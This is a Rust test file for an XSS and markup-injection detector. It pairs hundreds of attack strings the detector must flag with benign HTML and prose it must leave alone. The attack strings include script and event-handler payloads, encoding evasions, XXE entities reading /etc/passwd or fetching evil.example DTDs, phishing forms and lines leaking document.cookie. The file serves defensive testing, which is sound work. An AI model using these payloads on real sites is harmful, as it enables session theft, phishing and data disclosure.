//! Cases written from the HTML, URL, CSS and JavaScript grammars, one vector or benign shape
//! per line.

use super::detect;
use crate::Context;

fn hit(v: &str) -> bool {
    detect(v, Context::Param).is_some()
}

#[test]
fn tags_and_handlers() {
    for v in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></ScRiPt>",
        "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=# onmouseover=\"alert('x')\">",
        "<svg/onload=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<object data=\"x.swf\"></object>",
        "<embed src=x.swf>",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=import href=//evil.example/x.html>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<div style=\"width:expression(alert(1))\">",
        "<x onclick=alert(1)>click",
        "<details open ontoggle=alert(1)>",
        "<svg><animate attributeName=href values=javascript:alert(1) />",
        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
        "<img src=x onerror=alert(1)",
        "<input autofocus onfocus=alert(1)>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn schemes_and_breakouts() {
    for v in [
        "javascript:alert(1)",
        "  JaVaScRiPt:alert(document.domain)",
        "java\tscript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "';alert(1);//",
        "\\\";alert(1)//",
        "'-alert(1)-'",
        "</script><script>alert(1)</script>",
        "{{constructor.constructor('alert(1)')()}}",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "%253Cscript%253Ealert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "\\u003cimg src=x onerror=alert(1)\\u003e",
        "alert(document.cookie)",
        "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn evasions() {
    for v in [
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<b <script>alert(1)</script>",
        "<img src=x\x0bonerror=alert(1)>",
        "\"><script+src=//evil.example/x.js></script>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        "<meta charset=\"UTF-7\">",
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://evil.example/\">]>",
        "<x foo='?><script>alert(1)</script>'>",
        "A=alert;A(1)",
        "(alert)(1)",
        "[1].find(alert)",
        "'};a=eval;b=alert;a(b(1));//",
        "</a style=\"x:expr/**/ession(alert(1))\">",
        "<label datasrc=\"#x\" datafld=\"p\" dataformatas=\"html\"></label>",
        "<BR SIZE=\"&{alert('XSS')}\">",
        "<!--#exec cmd=\"/bin/id\"-->",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
        "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
        "<DIV STYLE=\"background-image: url(&#1;javascript:alert(1))\">",
        "<IMG SRC=\" &#14;  javascript:alert(1);\">",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn benign_markup_and_text_stay_quiet() {
    for v in [
        "<p>Hello <b>world</b></p>",
        "<a href=\"https://example.com/page?a=1&b=2\">link</a>",
        "<img src=\"x.png\" alt=\"\">",
        "<br><hr><ul><li>one</li><li>two</li></ul>",
        "<table><tr><td style=\"color:red\">1</td></tr></table>",
        "<p style=\"text-align: center; font-weight: bold\">centered</p>",
        "<blockquote cite=\"https://example.com\">quote</blockquote>",
        "3 < 5 and 7 > 2",
        "a<b",
        "x<y && y>z",
        "if a <= b then c",
        "O'Reilly",
        "It's a \"quote\"; really",
        "JavaScript: The Good Parts",
        "javascript:void(0)",
        "https://example.com/?online=1&onboarding=2",
        "mailto:someone@example.com",
        "data:image/png;base64,iVBORw0KGgo=",
        "{\"name\": \"x\", \"on\": true}",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "AT&T &amp; friends",
        "price = 5 * (3 + 4)",
        "Alert (red) level",
        "{{ user.name }}",
        "e = mc^2",
        "session=abc123; path=/; HttpOnly",
        "Turn it on = off",
        "<3 you",
        "I <3 rock & roll",
        "Status (alert) level",
        "type=alert",
        "please confirm (yes/no)",
        "<p class=\"note\">Press <kbd>Ctrl</kbd>+<kbd>C</kbd></p>",
        "<a href=\"/search?q=a+b\" title=\"x\">s</a>",
        "<span style=\"font-family: 'Open Sans', sans-serif; color: #333\">t</span>",
        "<video src=\"a.mp4\" controls width=\"320\"></video>",
        "<input type=\"checkbox\" checked> done",
        "if (a < b) { return; }",
        "x = a<b ? a : b;",
        "Temperature: 20 < t < 30",
        "https://example.com/a?redirect=%2Fhome&q=%3Cb%3E",
        "javascript: the definitive guide",
        "onload is an event",
        "mailto:support@example.com?subject=Hi&body=It's me",
        "<img src=\"https://cdn.example.com/a.jpg\" alt=\"O'Brien's photo\" title=\"5' tall\">",
        "<p style=\"margin-left: 40px;\">Indented &nbsp; text</p>",
        "if (x < 10 && y > 5) { z = x + y; }",
        "=IF(A1>0,\"yes\",\"no\")",
        "f'(x) = 2x and f''(x) = 2",
        "\u{bc} cup sugar, \u{be} cup flour",
        "<!-- comment -->",
        "<p data-on=\"x\" one=\"1\">t</p>",
        // pasted from Microsoft Word
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->",
        "<link rel=File-List href=\"file:///C:/Users/x/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml\">",
        "<meta http-equiv=Content-Type content=\"text/html; charset=utf-8\"><meta name=Generator content=\"Microsoft Word 15\">",
        "<p class=MsoNormal><span lang=EN-US style='mso-ansi-language:EN-US'>Text<o:p></o:p></span></p>",
        // Google Docs / Quill
        "<b style=\"font-weight:normal;\" id=\"docs-internal-guid-1a2b\"><p dir=\"ltr\" style=\"line-height:1.38;margin-top:0pt;\"><span style=\"font-size:11pt;\">x</span></p></b>",
        "<ol><li data-list=\"bullet\"><span class=\"ql-ui\" contenteditable=\"false\"></span>item</li></ol>",
        "<a href=\"https://example.com\" rel=\"noopener noreferrer\" target=\"_blank\">e</a>",
        "<pre class=\"language-js\"><code>const add = (a, b) => a + b;</code></pre>",
    ] {
        assert!(!hit(v), "false positive {v:?}: {:?}", detect(v, Context::Param));
    }
}

#[test]
fn huge_values_are_bounded() {
    let v = "<".repeat(1 << 20);
    let _ = detect(&v, Context::Param);
    let v = "<a ".repeat(1 << 18);
    let _ = detect(&v, Context::Param);
    let v = "&#".repeat(1 << 19);
    let _ = detect(&v, Context::Param);
    let v = format!("{}<script>", "x".repeat(1000));
    assert!(hit(&v));
}

#[test]
fn obfuscated_schemes_without_code() {
    // a scheme name split by characters the URL parser removes is never honest text
    for v in [
        "jav&Tab;ascript:",
        "vb&NewLine;script&colon;",
        "j%26Tab%3Bavascript%3A",
        "java\u{1}script: ",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "JavaScript: the definitive guide",
        "Java Script: a beginner's tour",
        "Data: see appendix",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn data_urls_carrying_markup() {
    // base64 of `<svg onload=alert(7)>` under a MIME type no rule lists
    for v in [
        "<a href=\"data:application/octet-stream;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNyk+\">x</a>",
        "<a href=\"data:foo/bar;&NewLine;base64&Tab;,PHN2ZyBvbmxvYWQ9YWxlcnQoNyk+\">x</a>",
        "data:application/x-anything,%3Cscript%3Ealert(2)%3C/script%3E",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        // base64 of "hello world, plain text"
        "<a href=\"data:text/plain;base64,aGVsbG8gd29ybGQsIHBsYWluIHRleHQ=\">t</a>",
        "<img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB\" alt=\"\">",
        "data:application/json,{\"a\":1}",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn bracket_only_script() {
    for v in [
        "(![]+[])[+!+[]]+(!![]+[])[+[]]",
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
        // a form decoded `+` to spaces
        "(![] [])[ ! []] (!![] [])[ []]",
        // the empty pair written with spaces inside
        "(![  ]+[ ])[+!+[ ]]+(!![ ]+[ ])[+[ ]]",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "!!!!!!!!!!!!!!!!!!!!!!",
        "- [ ] todo\n- [ ] another one\n- [x] done",
        "![](a.png) ![](b.png)",
        "((((a+b)))) + [c] + [d]",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn computed_access_on_globals() {
    for v in [
        "top[\"al\"+\"ert\"](3)",
        "window['x']",
        "(self)[\"name\"]",
        "q=<b>prompt</b>;frames[q](4)",
        "window /* c */ .name",
        "(parent/**/)['origin']",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "see the top[1] answer",
        "content[3] of the archive",
        "self-review [draft]",
        "a/* note */.b",
        "window (in the kitchen) [sic]",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn plugin_tags_need_a_resource() {
    for v in [
        "<object data=\"//evil.example/x.swf\">",
        "<OBJECT><param name=movie value=\"//evil.example/x.swf\"></OBJECT>",
        "<embed src=\"//evil.example/x.svg\">",
        "<applet code=\"X.class\">",
    ] {
        assert!(hit(v), "{v:?}");
    }
    // API documentation names types in angle brackets
    for v in [
        "options <Object> Settings for the call.",
        "Returns: <Object>",
        "cb <Function> | <Object>\n\nsignal <AbortSignal>",
        "<li><code>opts</code> &#x3C;Object></li>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn member_calls_that_reach_no_sink() {
    for v in [
        "document.write('<b>x</b>')",
        "window.open('//evil.example')",
        "location.replace(u)",
        "top.alert(1)",
        "x.innerHTML='<img src=x onerror=y()>'",
        "';window.location.assign(u);//",
    ] {
        assert!(hit(v), "{v:?}");
    }
    // API references and code samples from documentation
    for v in [
        "stream.write(chunk)",
        "IMAP4.open()",
        "window.refresh()",
        "console.log(value)",
        "String.prototype.trim()",
        "session.setTimeout(msecs)",
        "const s = 'x';\nserver.close(done);",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn attribute_quotes_are_not_js_strings() {
    for v in [
        "x\" onmouseover=\"alert(1)",
        "';alert(document.domain)//",
        "<a title=\"x\">';eval(name)//",
    ] {
        assert!(hit(v), "{v:?}");
    }
    // documentation markup: quoted attributes followed by text that names API calls
    for v in [
        "<a class=\"ref\" href=\"#eval\" title=\"eval\"><code>eval()</code></a> runs code",
        "<li><a href=\"#srv-timeout\"><code>server.setTimeout([msecs][, callback])</code></a></li>",
        "<p>See <a href='open.html' title='open'>open()</a>; it returns a file.</p>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn methods_sharing_a_sink_name() {
    for v in [
        "x=1;top.alert(1)",
        "a=new ActiveXObject('x').parentWindow.eval(name)",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "rl.prompt([preserveCursor])",
        "timers.setInterval([delay[, value]])",
        "see <code>eval()</code> and <code>exec()</code>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn expression_needs_a_property() {
    for v in [
        "<div style=\"width: expression(alert(1))\">",
        "<p style=\"x:ex/**/pression(alert(1))\">",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "a regular expression (regex) matches text",
        "the context expression (the expression given in the with item) is evaluated",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn seven_bit_stripped_markup() {
    for v in [
        "%BCsvg onload=alert(1)%BE",
        "\\xbcscript\\xbeprompt(1)\\xbc/script\\xbe",
    ] {
        assert!(hit(v), "{v:?}");
    }
    // valid UTF-8 keeps its meaning: Cyrillic "мой мир" and French "élève" percent-encoded
    for v in [
        "%D0%BC%D0%BE%D0%B9%20%D0%BC%D0%B8%D1%80",
        "%C3%A9l%C3%A8ve",
        "50%25 off",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn percent_pseudo_tags() {
    for v in [
        "<%script>alert(2)<%/script>",
        "<%iframe src=//evil.example>",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "<%= user.name %>",
        "<%@ page language=\"java\" %>",
        "<%include file=\"header.html\"%>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn editor_escaped_markup_and_other_hard_negatives() {
    for v in [
        // no markup of its own: only a double-decoding application creates the tag
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        // real markup carrying a handler stays a hit whatever else is escaped
        "<b>&lt;i&gt;</b><img src=x onerror=alert(1)>",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "<b>Note:</b> put <code>&lt;script&gt;</code> tags in the head.",
        "<p>Type <kbd>&lt;iframe src=...&gt;</kbd> to embed a frame.</p>",
        "<p>5 &lt; 6 &amp;&amp; 7 &gt; 3</p>",
        "<span style=\"background:url(https://cdn.example.com/bg.png) no-repeat\">x</span>",
        "<a href=\"mailto:jo@example.com\">Mail me</a>",
        "<video controls src=\"https://example.com/v.mp4\"></video>",
        "Use document.cookie carefully.",
        "window.location is a browser API",
        "self-care [tips] (for you)",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn with_statement_over_a_global() {
    for v in [
        "with(document)body.appendChild(createElement('img'))",
        "with (top) { location = name }",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "with (document) in hand, we walked in",
        "coffee with(milk) please",
        "with(window) seat preferred",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn raw_text_element_breakouts() {
    for v in [
        "</script>",
        "</script><svg onload=alert(1)>",
        "</textarea><b>x",
        "x</title>",
        "</STYLE >",
        "</noscript/>",
        "</xmp>",
        "</template>",
        "</iframe>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        // the value opens the element it closes
        "<title>My page</title>",
        "<textarea rows=3>notes</textarea>",
        "<noscript>Please enable JavaScript.</noscript>",
        // not raw-text elements, or not an end tag a browser would act on
        // (a value that starts with any end tag is a break-out: see page_rewriting_markup)
        "x </div></p> y",
        "</scripts>",
        "</script",
        "a </ script> b",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn evasive_character_references() {
    for v in [
        "&#60",
        "&#0060;",
        "&#x3c",
        "&#x003C;",
        "&#X0003c",
        "x &#062 y",
        "&#0000060script&#0000062",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        // canonical spellings that serializers produce
        "a &lt; b",
        "x&#60;y",
        "price &#x3C; 10",
        "it&#039;s", // PHP's htmlspecialchars quote
        "&#0065;&#66",
        "Tom &amp; Jerry &#8212; &#169",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn ie_processing_instructions_and_data_islands() {
    for v in [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<?xml-stylesheet type=\"text/xsl\" href=\"#\"?><x/>",
        "<XML SRC=\"http://example.com/x.xml\" ID=I></XML>",
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://x/\"/></a>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note>hi</note>",
        "<?xml-stylesheet type=\"text/css\" href=\"style.css\"?>",
        "<?php echo $x; ?>",
        "<xml id=\"data\"><row>1</row></xml>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>",
        "<p>XInclude (http://www.w3.org/2001/XInclude) merges documents</p>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn prefilters_keep_what_they_guard() {
    // the byte tests before fold_fullwidth, percent_seven_bit and the sink scans must let
    // every shape they guard through
    for v in [
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        "\u{bc}script\u{be}alert(1)\u{bc}/script\u{be}",
        "\u{2039}img src=x onerror=alert(1)\u{203a}",
        "%BCscript%BEalert(1)%BC/script%BE",
        "x';alert(1);//",
        "x'+document.cookie+'",
        "<b title=\"a\" class=\"b\">x</b>';eval(name)//",
        "<div style=\"width: expression(alert(1))\">",
        "with(document)body.appendChild(createElement('script'))",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "東京都千代田区「テスト」（株）",
        "«Привет», — сказал он: «да»",
        "100%25 sure it's done",
        "<p class=\"a\">It's a 'quoted' word</p>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn calls_that_run_nothing() {
    for v in [
        "import('//evil.example/x.js')",
        "';import('https://evil.example/m.js')//",
        "setTimeout(name)",
        "setTimeout('alert(1)', 0)",
        "[1].find(alert)",
        "<div style=\"behavior: url(#default#time2)\">",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "import() expressions#",
        "let m = await import('node:http2');",
        "setInterval(callback[, delay[, ...args]])#",
        "setTimeout(callback[ , delay])",
        "<p>one would expect the following behavior:</p>",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn external_entities_that_are_parsed() {
    assert!(hit(
        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>"
    ));
    assert!(hit(
        "<!ENTITY % p PUBLIC \"x\" \"http://evil.example/x.dtd\">"
    ));
    // an unparsed (NDATA) entity names a file the parser never reads into the document
    assert!(!hit("<!ENTITY logo SYSTEM \"images/logo.gif\" NDATA gif>"));
}

#[test]
fn markup_soup_never_panics() {
    // pseudo-random strings over the characters the tokenizers branch on (fixed seed), with
    // multi-byte characters to exercise char boundaries
    const ALPHABET: [&str; 24] = [
        "<", ">", "/", "!", "?", "-", "=", "\"", "'", "`", "&", "#", ";", ":", "x", "on", "script",
        "svg", " ", "\\", "%3c", "&#x3c", "\u{ff1c}", "é",
    ];
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for _ in 0..5_000 {
        let mut s = String::new();
        for _ in 0..(seed % 24) {
            seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
            s.push_str(ALPHABET[(seed >> 33) as usize % ALPHABET.len()]);
        }
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        let _ = detect(&s, Context::Param);
        let _ = super::inert_markup(&s);
    }
}

#[test]
fn documentation_code_is_not_a_call() {
    // API-reference notation, callbacks handed to someone else, code shown in code elements,
    // and prose around a word followed by parentheses: nothing runs
    for v in [
        "setTimeout(callback, delay[, ...args])#",
        "setInterval(callback[, delay])",
        "_.defer(function(){ alert('deferred'); });\n// Returns before the alert runs.",
        "var v = {\n  onClick: function(){ alert('clicked: ' + this.label); }\n};",
        "button.on('click', () => { alert('hi'); });",
        "<li><a href=\"#atobdata\"><code>atob(data)</code></a></li>",
        "<li><a href=\"#rlsetpromptprompt\"><code>rl.setPrompt(prompt)</code></a></li>",
        "<pre> _.defer(function(){ alert('deferred'); }); </pre>",
        "<pre><code class=\"language-js\">const f = () =&gt; alert(\"hi\");</code></pre>",
        "<p>Use <code>eval(expr)</code> only on trusted input.</p>",
        "confirm(your attendance) by Friday",
        "eval(expression) evaluates the expression",
        "window.alert(message) shows a dialog",
        "I set onload=true in the config file",
        "onerror=ignore",
        "Set onload='init' in the body tag docs",
        "location.href = '/login';",
        "window.location = \"/home\"; // redirect",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // look-alikes that do run: invoked function literals, calls outside code elements,
    // calls in attributes, real arguments, break-outs before a plain handler word
    for v in [
        "(function(){ alert(1) })()",
        "[1].map(function(){alert(1)})",
        "[1].forEach(() => { alert(document.domain) })",
        "new Promise(function(r){ alert(1) })",
        "function(){alert(1)}()",
        "setTimeout(function(){alert(1)},0)",
        "<code>x</code><svg onload=alert(1)>",
        "<code title=\"a\" onclick=\"alert(1)\">x</code>",
        "<b>x</b>';alert(1)//",
        "alert(document.cookie)",
        "alert('xss') // comment",
        "alert?.(1)",
        "confirm(1)",
        "\" onerror=KCF \"",
        "x onfocus=alert autofocus",
        "x onload='alert'",
        "location.href = 'javascript:alert(1)';",
        "location.href = '//evil.example/';",
        "location.href = '/x?c=' + document.cookie;",
        "document.location='/'+document.cookie",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn utf7_and_full_width_markup_without_ascii_punctuation() {
    // nothing but `+`, `-`, `/` or full-width forms: the decoders must still see them
    for v in [
        "+ADw-script+AD4-alert+ACg-1+ACk-+ADw-/script+AD4-",
        "+ADw-img src+AD0-x onerror+AD0-alert+ACg-1+ACk-+AD4-",
        "\u{ff1c}script\u{ff1e}alert\u{ff08}1\u{ff09}\u{ff1c}/script\u{ff1e}",
        "\u{ff1c}img src\u{ff1d}x onerror\u{ff1d}alert\u{ff08}1\u{ff09}\u{ff1e}",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "C++ programming",
        "+1 (555) 010-9999",
        "q=a+b+c",
        "\u{ff1c}\u{91cd}\u{8981}\u{ff1e}\u{304a}\u{77e5}\u{3089}\u{305b}",
        "\u{ff08}\u{682a}\u{ff09}\u{6771}\u{4eac}",
        "\u{bc} cup sugar, \u{be} cup flour",
        "\u{2039} prev | next \u{203a}",
        "\u{ff28}\u{ff45}\u{ff4c}\u{ff4c}\u{ff4f}",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn paired_quotes_in_code_samples_do_not_break_out() {
    // a quote that closes a string the value itself opened leads back into a string, not
    // into code: code samples whose quotes pair up
    for v in [
        "import csv\nfor row in csv.reader(['one,two,three']):\n    print(row)",
        ">>> opt_flag = c_int.in_dll(pythonapi, \"Py_OptimizeFlag\")\n>>> print(opt_flag)",
        ">>> d = deque([\"task1\", \"task2\"])\n>>> print(\"Handling\", d.popleft())",
        "<pre> _.pick({name: 'moe', age: 50}, 'name', 'age'); </pre>",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // the first (odd) quote ends the page's string; a third one does again
    for v in [
        "';alert(1)//",
        "\"-alert(1)-\"",
        "x' + 'y';print(1)//",
        "');top['al'+'ert'](1);//",
        // a script made of statements: a later one reaches a sink
        "x=document.createElement('script');x.src='//evil';document.body.appendChild(x)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn context_look_arounds_are_budgeted() {
    // thousands of sink mentions that each would be exempted (uncalled function bodies,
    // code-element text): past the budget a mention counts as it stands
    let many = "x(function(){alert(1)});".repeat(2_000);
    assert!(hit(&many));
    let code = format!("<code>{}</code>", "alert(1); ".repeat(2_000));
    assert!(hit(&code));
    // a handful stays exempted
    assert!(!hit(&"x(function(){alert(1)});\n".repeat(3)));
}

#[test]
fn page_rewriting_markup() {
    for v in [
        // break-outs from an element, comment or CDATA section the value never opened
        "</div><h1>Session expired</h1>",
        "</td></tr></table><p>x",
        "-->{}",
        "--><p>hello",
        "]]><p>hello</p>",
        "x]]><b>y</b>",
        "<![endif]-->",
        // document elements and forms where markup stands
        "<body>",
        "<HTML><HEAD>",
        "<p>hi</p></body></html>",
        "<form action=\"https://evil.example/login\" method=post>",
        "<div><form>",
        "<button formaction=\"//evil.example\">Save</button>",
        "<input name=user form=login>",
        "Sign in again: <form action=//evil.example><input name=pw></form>",
        // prologs spliced after markup, internal subsets
        "<p>x</p><?xml version=\"1.0\"?>",
        "<span></span> <!doctype html>",
        "<!DOCTYPE r [<!ENTITY a \"b\">]>",
        // the web's vocabularies under an XML prefix
        "<svg:svg><svg:rect width=\"100%\"/></svg:svg>",
        "<MATH:math>",
        "<html:form action=x>",
        // SVG graphics outside an svg root
        "<path d=\"M0 0L9 9\" fill=\"white\"/>",
        "<a href=\"#\"><rect width=\"100%\" height=\"100%\" fill-opacity=\"0\"/></a>",
        // links that deceive about their host
        "<a href=\"https://bank.example@evil.example/\">bank</a>",
        "<a href=\"http://3232235777/\">router</a>",
        "<img src=\"http://0300.0250.0.1/x.png\">",
        "<a href=\"http://0xC0.0xA8.0.1/\">x</a>",
        "<a href=\"https://%62ank.example/\">x</a>",
        "<a href=\"h&#x09;ttps://bank.example\">x</a>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        // editor output: balanced, no document elements, plain links, SVG with its root
        "<p>Hello <strong>world</strong></p><ul><li>a</li></ul>",
        "<p><a href=\"https://example.com/a@b\" target=\"_blank\" rel=\"noopener\">x</a></p>",
        "<p><a href=\"http://192.168.0.1/\">router admin</a></p>",
        "<p><a href=\"mailto:someone@example.com\">mail</a></p>",
        "<svg width=\"24\" height=\"24\"><path d=\"M0 0L9 9\"/><circle r=\"4\"/></svg>",
        "<p class=\"MsoNormal\">Text<o:p></o:p></p>",
        "<!--StartFragment--><p>pasted</p><!--EndFragment-->",
        "<ul><li><input type=\"checkbox\" checked> done</li></ul>",
        "<p>x</p><button class=\"copy\">Copy</button>",
        // mentions in prose and code
        "A CGI script reads input submitted through an HTML <FORM> element.",
        "print('<html>')",
        "The RE matches the '<' in '<html>'",
        "File --> Save As",
        "a --> b --> c",
        "if (a[b[c]]>0) {}",
        "</komplement>",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>x</to></note>",
        "<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>",
        "see <path> and <rect> in the SVG spec",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn markup_that_takes_in_the_rest_of_the_page() {
    for v in [
        // unclosed raw-text elements and foreign-content roots where markup stands
        "<textarea name=leak>",
        "<p>Please sign in</p><STYLE>",
        "<b>x</b><title>",
        "<div><svg width=10>",
        "<math>",
        "<div>x</div><!-- rest",
        // form controls that submit, capture or plant fields; dirname
        "<input type=\"password\" name=pw>",
        "</p><input type=hidden name=csrf value=x>",
        "<input type=image src=x.png>",
        "<input name=q value=x dirname=password>",
        // XML machinery that fetches or attaches handlers
        "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://evil.example/x.xsd\"/>",
        "<x xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\"/>",
        "<xml:namespace prefix=\"t\">",
        // a trailing dot and a DOCTYPE subset end
        "<a href=\"https://bank.example./login\">bank</a>",
        "]><p>x</p>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "<p>Use <code>&lt;textarea&gt;</code> for long text.</p>",
        "Put the CSS in a <style> element",
        "test <svg> support",
        "<textarea rows=3>notes</textarea>",
        "<svg viewBox=\"0 0 24 24\"><path d=\"M1 1\"/></svg>",
        "<math><mi>x</mi><mo>&lt;</mo><mn>3</mn></math>",
        "<ul><li><input type=\"checkbox\" checked disabled> done</li></ul>",
        "Use <input type=\"password\"> for secrets.",
        "<!-- a note --><p>x</p>",
        "HTML comments start with <!-- and end with the arrow",
        "<a href=\"https://example.com/a.b.\">x</a>",
        "x = a[i]> b",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn forms_by_destination_and_lone_end_tags() {
    for v in [
        "<form>",
        "<div><form action=\"\" method=\"post\">",
        "<form action=\"https://evil.example/c\">",
        "text <form action=//evil.example>",
        "<form action=\"\\\\evil.example\\x\">",
        // a closer followed by the value's own markup, which lands outside the container
        "</p><b>x</b>",
        "</div><img src=x onerror=alert(1)>",
        "</TD ><svg onload=alert(1)>",
        "</a>\n<script>alert(1)</script>",
        "</details><iframe src=//evil.example>",
        "</li></ul><h1>Session expired</h1>",
        // raw-text and RCDATA closers change how the rest of the page is parsed
        "</script><script>alert(1)</script>",
        "</textarea><svg onload=alert(1)>",
        "</title><script>alert(1)</script>",
        "</noscript>",
        "</STYLE>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>",
        "<form action=\"?page=2\"></form>",
        "</p>",
        "</b>",
        "  </strong>  ",
        // a lone end tag of an ordinary element escapes nothing: what follows it is text
        "</details>",
        "</div>",
        "</a>",
        "</TD>",
        "  </SELECT>",
        "</summary >",
        "</b> and more text",
        "</div> thanks, fixed",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn editor_video_embeds_are_not_frame_injection() {
    for v in [
        "<iframe src=\"http://example.org/\"></iframe>",
        "<iframe src=//evil.example/phish></iframe>",
        "<iframe src=\"/local/page\"></iframe>",
        "<iframe name=target src=\"https://evil.example/\"></iframe>",
        "<iframe sandbox=\"allow-scripts allow-same-origin\" src=\"https://x.example/\"></iframe>",
        "<iframe src=\"https://x.example/\" onload=\"alert(1)\"></iframe>",
        "<iframe src=\"https://x.example/\" srcdoc=\"<b>x</b>\"></iframe>",
        "<iframe <b>",
        "<iframe>",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
